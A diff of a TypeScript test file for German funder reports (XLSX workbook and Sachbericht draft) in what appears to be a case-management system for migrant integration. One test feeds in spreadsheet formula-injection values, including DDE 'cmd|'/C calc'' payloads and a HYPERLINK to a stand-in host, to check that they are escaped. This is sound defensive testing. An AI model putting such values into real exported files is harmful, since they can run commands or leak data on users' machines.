@@ -6,7 +6,12 @@ import { renderSachbericht } from '../../src/report/sachbericht';
 import { renderWorkbook } from '../../src/report/xlsx';
 import { backends, freshStore, type TestStore } from '../helpers/stores';
 import { actorFor } from '../helpers/fixtures';
-import { buildReportFixture, fixtureClock, fixturePeriod, fixtureProfile } from '../helpers/report-fixture';
+import {
+	buildReportFixture,
+	fixtureClock,
+	fixturePeriod,
+	fixtureProfile,
+} from '../helpers/report-fixture';
 
 describe.each(backends)('funder report files on %s', (backend) => {
 	let t: TestStore;
@@ -17,14 +22,21 @@ describe.each(backends)('funder report files on %s', (backend) => {
 		const profile = fixtureProfile();
 		const core = createCore({ store: t.store, profile, clock: fixedClock(fixtureClock) });
 		await buildReportFixture(core, profile);
-		report = await core.funderReport(actorFor(profile, 'em-koordination'), { period: fixturePeriod });
+		report = await core.funderReport(actorFor(profile, 'em-koordination'), {
+			period: fixturePeriod,
+		});
 	});
 	afterAll(() => t.dispose());
 
 	it('writes an XLSX whose sheet "Auswertung Zeitraum" has one column per manager and a total, read back with exceljs', async () => {
 		const workbook = new ExcelJS.Workbook();
 		await workbook.xlsx.load((await renderWorkbook(report)) as unknown as ArrayBuffer);
-		expect(workbook.worksheets.map((w) => w.name)).toEqual(['Auswertung Zeitraum', 'nach Träger', 'nach Gemeinde', 'Erläuterungen']);
+		expect(workbook.worksheets.map((w) => w.name)).toEqual([
+			'Auswertung Zeitraum',
+			'nach Träger',
+			'nach Gemeinde',
+			'Erläuterungen',
+		]);
 		const sheet = workbook.getWorksheet('Auswertung Zeitraum');
 		if (!sheet) throw new Error('sheet missing');
 		expect(sheet.getCell('A3').value).toBe('Zeitraum: 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
@@ -33,7 +45,9 @@ describe.each(backends)('funder report files on %s', (backend) => {
 		expect(header).toHaveLength(23 + 2);
 		expect(header[header.length - 1]).toBe('Gesamt');
 		const timoColumn = header.indexOf('Timo Quast') + 1;
-		expect(sheet.getRow(7).getCell(timoColumn).value).toBe('Caritasverband für den Landkreis Emmendingen e.V.');
+		expect(sheet.getRow(7).getCell(timoColumn).value).toBe(
+			'Caritasverband für den Landkreis Emmendingen e.V.',
+		);
 		const rowOf = (label: string) => {
 			let found: ExcelJS.Row | undefined;
 			sheet.eachRow((row) => {
@@ -59,8 +73,8 @@ describe.each(backends)('funder report files on %s', (backend) => {
 		const hostile = structuredClone(report);
 		hostile.name = '=HYPERLINK("https://example.invalid/?"&A2;"Bericht")';
 		hostile.district.funder = '\t=1+1';
-		hostile.groups.manager[0].name = '+cmd|\'/C calc\'!A0';
-		hostile.groups.organisation[0].name = '@SUM(1+1)*cmd|\'/C calc\'!A0';
+		hostile.groups.manager[0].name = "+cmd|'/C calc'!A0";
+		hostile.groups.organisation[0].name = "@SUM(1+1)*cmd|'/C calc'!A0";
 		hostile.groups.municipality[0].name = '\r=2+5';
 		hostile.rows[0].label = '-2+3';
 		hostile.rows[0].periodRule = '＝1+1';
@@ -77,7 +91,16 @@ describe.each(backends)('funder report files on %s', (backend) => {
 		);
 		expect(texts.filter((text) => /^[=+\-@\t\r\n＝＋－＠]/.test(text))).toEqual([]);
 		// (XML turns the carriage return into a line feed when the file is read.)
-		expect(texts).toEqual(expect.arrayContaining([`'${hostile.name}`, `'${hostile.groups.manager[0].name}`, `'${hostile.groups.organisation[0].name}`, "'\n=2+5", "'-2+3", "'＝1+1"]));
+		expect(texts).toEqual(
+			expect.arrayContaining([
+				`'${hostile.name}`,
+				`'${hostile.groups.manager[0].name}`,
+				`'${hostile.groups.organisation[0].name}`,
+				"'\n=2+5",
+				"'-2+3",
+				"'＝1+1",
+			]),
+		);
 		// Text that does not start like a formula stays as it is.
 		expect(texts).toContain('Zeitraum: 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
 		expect(texts.some((text) => text.startsWith('Zuwendungsempfänger: \t=1+1'))).toBe(true);
@@ -95,19 +118,36 @@ describe.each(backends)('funder report files on %s', (backend) => {
 
 	it('fills the Sachbericht draft with the figures, in German', () => {
 		const html = renderSachbericht(report);
-		expect(html).toContain('<strong>Berichtszeitraum:</strong> 1. Quartal 2026 (01.01.2026 – 31.03.2026)');
-		expect(html).toContain('wurden 13 Personen in 7 Haushalten beraten, davon 4 Minderjährige und 9 Volljährige');
-		expect(html).toContain('Die Betreuungsquote (beratene Personen je berechtigter Person in den Gemeinden mit bekannter Zahl) lag bei 35,0\u00a0% (7 von 20)');
-		expect(html).toContain('3 Fälle wurden im Berichtszeitraum beendet, 1 davon mit eigenem Mietvertrag (33,3\u00a0%)');
-		expect(html).toContain('44,4\u00a0% Deutschkenntnisse auf dem Niveau B1 oder höher (4 Personen)');
+		expect(html).toContain(
+			'<strong>Berichtszeitraum:</strong> 1. Quartal 2026 (01.01.2026 – 31.03.2026)',
+		);
+		expect(html).toContain(
+			'wurden 13 Personen in 7 Haushalten beraten, davon 4 Minderjährige und 9 Volljährige',
+		);
+		expect(html).toContain(
+			'Die Betreuungsquote (beratene Personen je berechtigter Person in den Gemeinden mit bekannter Zahl) lag bei 35,0\u00a0% (7 von 20)',
+		);
+		expect(html).toContain(
+			'3 Fälle wurden im Berichtszeitraum beendet, 1 davon mit eigenem Mietvertrag (33,3\u00a0%)',
+		);
+		expect(html).toContain(
+			'44,4\u00a0% Deutschkenntnisse auf dem Niveau B1 oder höher (4 Personen)',
+		);
 		expect(html).toContain('3 Beratungskontakte:\npersönlich 2; Telefon 1.');
 		expect(html).toContain('von 3 Träger(n) mit 23 Integrationsmanager*innen');
 	});
 
 	it('fills a district’s own template and names an unknown figure instead of leaving it blank', () => {
-		expect(renderSachbericht(report, 'Kontakte: {{wert "contacts"}}; {{#each (teile "closures_by_reason")}}{{#if anzahl}}{{label}}={{wert}} {{/if}}{{/each}}')).toBe(
+		expect(
+			renderSachbericht(
+				report,
+				'Kontakte: {{wert "contacts"}}; {{#each (teile "closures_by_reason")}}{{#if anzahl}}{{label}}={{wert}} {{/if}}{{/each}}',
+			),
+		).toBe(
 			'Kontakte: 3; selbständig (nutzt die Regeldienste eigenständig)=1 Kontaktabbruch=1 auf Wunsch der Person=1 ',
 		);
-		expect(() => renderSachbericht(report, '{{wert "contact"}}')).toThrow('Die Kennzahl „contact“ gibt es in der Berichtsdefinition nicht');
+		expect(() => renderSachbericht(report, '{{wert "contact"}}')).toThrow(
+			'Die Kennzahl „contact“ gibt es in der Berichtsdefinition nicht',
+		);
 	});
 });
